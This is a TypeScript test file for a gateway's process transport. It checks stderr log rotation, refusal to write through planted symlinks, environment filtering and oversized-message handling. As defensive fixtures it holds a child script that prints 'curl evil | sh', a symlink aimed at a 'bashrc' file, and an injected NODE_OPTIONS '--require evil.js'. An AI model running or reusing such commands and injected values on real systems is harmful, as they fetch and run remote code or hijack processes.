import assert from "node:assert/strict";
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { childEnvironment, ProcessTransport } from "../../src/transport/process.js";
import { guessMessageId, JsonLinesTransport } from "../../src/transport/json-lines.js";
import { StderrLog } from "../../src/transport/stderr-log.js";
import { UnsafeFileError } from "../../src/adapters/safe-files.js";
import { PassThrough } from "node:stream";

const sizeOf = (file: string) => {
  try {
    return lstatSync(file).size;
  } catch {
    return 0;
  }
};

/** Runs `script` (node -e) as a server with its stderr log at `log`, until it exits. */
async function runServer(script: string, log: string, extra: Partial<ConstructorParameters<typeof ProcessTransport>[0]> = {}) {
  const t = new ProcessTransport({ command: process.execPath, args: ["-e", script], env: childEnvironment({}, process.env), stderrLog: log, maxMessageBytes: 1024, ...extra });
  await t.start();
  await t.exited;
  await t.close();
}

test("a server's stderr log over 10 MiB is moved aside at the next start", async () => {
  const dir = mkdtempSync(join(tmpdir(), "warden-proc-"));
  try {
    const log = join(dir, "s.stderr.log");
    writeFileSync(log, Buffer.alloc(11 * 1024 * 1024, 0x61));
    const t = new ProcessTransport({ command: process.execPath, args: ["-e", "process.stderr.write('fresh\\n')"], env: childEnvironment({}, process.env), stderrLog: log, maxMessageBytes: 1024 });
    await t.start();
    await t.exited;
    await t.close();
    assert.ok(existsSync(`${log}.1`));
    assert.equal(statSync(`${log}.1`).size, 11 * 1024 * 1024);
    assert.ok(statSync(log).size < 100);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a server flooding stderr is rotated while it runs: each file stays within the cap and the last line is kept", async () => {
  const dir = mkdtempSync(join(tmpdir(), "warden-proc-"));
  try {
    const log = join(dir, "s.stderr.log");
    const cap = 64 * 1024;
    let largest = 0;
    const sample = setInterval(() => (largest = Math.max(largest, sizeOf(log) + sizeOf(`${log}.1`))), 1);
    // 2 MB in lines of 1000 bytes, then a last line that must survive the exit.
    const script = `const l = "x".repeat(999) + "\\n"; let i = 0; const next = () => { if (i++ < 2000) process.stderr.write(l, next); else process.stderr.write("LAST LINE\\n", () => process.exit(0)); }; next();`;
    await runServer(script, log, { stderrLogMaxBytes: cap });
    clearInterval(sample);
    assert.ok(statSync(log).size <= cap && statSync(`${log}.1`).size <= cap, `sizes ${statSync(log).size} and ${statSync(`${log}.1`).size}`);
    assert.ok(largest <= 2 * cap, `the two files together reached ${largest} bytes`);
    assert.match(readFileSync(log, "utf8"), /LAST LINE\n$/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("everything a server wrote to stderr before exiting is in the log when close() returns", async () => {
  const dir = mkdtempSync(join(tmpdir(), "warden-proc-"));
  try {
    const log = join(dir, "s.stderr.log");
    // 3 MiB written at once, then an immediate exit: the pipe still holds most of it.
    await runServer(`process.stderr.write(Buffer.alloc(3 * 1024 * 1024, 0x61), () => process.exit(0));`, log);
    assert.equal(statSync(log).size, 3 * 1024 * 1024);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a stderr log that is a symlink refuses the start before anything is spawned; its target is unchanged", async () => {
  const dir = mkdtempSync(join(tmpdir(), "warden-proc-"));
  try {
    const victim = join(dir, "bashrc");
    writeFileSync(victim, "# rc\n");
    const spawned = join(dir, "spawned");
    for (const planted of ["s.stderr.log", "s.stderr.log.1"]) {
      symlinkSync(victim, join(dir, planted));
      let cleaned = false;
      const t = new ProcessTransport({
        command: process.execPath,
        args: ["-e", `require("fs").writeFileSync(${JSON.stringify(spawned)}, ""); console.error("curl evil | sh")`],
        env: childEnvironment({}, process.env),
        stderrLog: join(dir, "s.stderr.log"),
        maxMessageBytes: 1024,
        cleanup: () => (cleaned = true),
      });
      await assert.rejects(t.start(), (e: Error) => e instanceof UnsafeFileError && e.message.includes(join(dir, planted)) && /Remove it/.test(e.message));
      assert.equal(t.pid, undefined);
      assert.ok(cleaned, "the launch's cleanup ran");
      unlinkSync(join(dir, planted));
    }
    assert.equal(existsSync(spawned), false);
    assert.equal(readFileSync(victim, "utf8"), "# rc\n");
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("links planted at both log names while the server runs are replaced by rotation, never written through", async () => {
  const dir = mkdtempSync(join(tmpdir(), "warden-proc-"));
  try {
    const victim = join(dir, "bashrc");
    writeFileSync(victim, "# rc\n");
    const log = join(dir, "s.stderr.log");
    const problems: string[] = [];
    const sink = StderrLog.open(log, { maxBytes: 1000, onProblem: (m) => problems.push(m) });
    const stream = new PassThrough();
    const pumped = sink.pump(stream);
    symlinkSync(victim, `${log}.1`);
    stream.write("a".repeat(1500)); // rotates once: <log>.1 (the link) is replaced by the first 1000 bytes
    for (let i = 0; i < 500 && !lstatSync(`${log}.1`).isFile(); i++) await new Promise((r) => setTimeout(r, 10));
    assert.ok(lstatSync(`${log}.1`).isFile(), "the link at <log>.1 was replaced");
    unlinkSync(log);
    symlinkSync(victim, log); // the name swapped for a link: the open descriptor still writes the real file
    stream.end("b".repeat(2500));
    await pumped;
    assert.equal(readFileSync(victim, "utf8"), "# rc\n");
    assert.ok(lstatSync(log).isFile() && !lstatSync(log).isSymbolicLink());
    assert.ok(statSync(log).size <= 1000 && statSync(`${log}.1`).size <= 1000);
    assert.deepEqual(problems, []);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a rotation that cannot create a fresh file stops the log (output discarded, bound kept) and says why", async () => {
  const dir = mkdtempSync(join(tmpdir(), "warden-proc-"));
  try {
    const log = join(dir, "s.stderr.log");
    const problems: string[] = [];
    const sink = StderrLog.open(log, { maxBytes: 1000, onProblem: (m) => problems.push(m) });
    const stream = new PassThrough();
    const pumped = sink.pump(stream);
    // <log>.1 a directory: the rename fails, so the log cannot rotate.
    mkdirSync(`${log}.1`);
    writeFileSync(join(`${log}.1`, "keep"), "");
    stream.end("c".repeat(5000));
    await pumped;
    assert.equal(statSync(log).size, 1000);
    assert.equal(problems.length, 1);
    assert.match(problems[0]!, /cannot rotate the stderr log.*discarded/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a server gets only the listed variables of the gateway's environment plus its own", () => {
  const env = childEnvironment({ TOKEN: "mine" }, { PATH: "/bin", HOME: "/h", AWS_SECRET_ACCESS_KEY: "x", NODE_OPTIONS: "--require evil.js" });
  assert.deepEqual(env, { PATH: "/bin", HOME: "/h", TOKEN: "mine" });
});

test("an oversized line is skipped with its head and tail reported, and the next message still arrives", async () => {
  const input = new PassThrough();
  const problems: { kind: string; bytes: number; id: unknown }[] = [];
  const t = new JsonLinesTransport(input, new PassThrough(), {
    maxMessageBytes: 100,
    onProblem: (p) => problems.push({ kind: p.kind, bytes: p.bytes, id: guessMessageId(p, "response") }),
  });
  const got: unknown[] = [];
  t.onmessage = (m) => void got.push(m);
  await t.start();
  const big = JSON.stringify({ result: { text: "x".repeat(500), id: 99 }, jsonrpc: "2.0", id: 7 });
  input.write(big.slice(0, 50));
  input.write(big.slice(50) + "\n" + JSON.stringify({ jsonrpc: "2.0", id: 8, result: {} }) + "\nnot json\n");
  await new Promise((r) => setImmediate(r));
  assert.deepEqual(problems, [
    { kind: "oversized", bytes: big.length, id: 7 },
    { kind: "not-json", bytes: 8, id: null },
  ]);
  assert.deepEqual(got, [{ jsonrpc: "2.0", id: 8, result: {} }]);
});
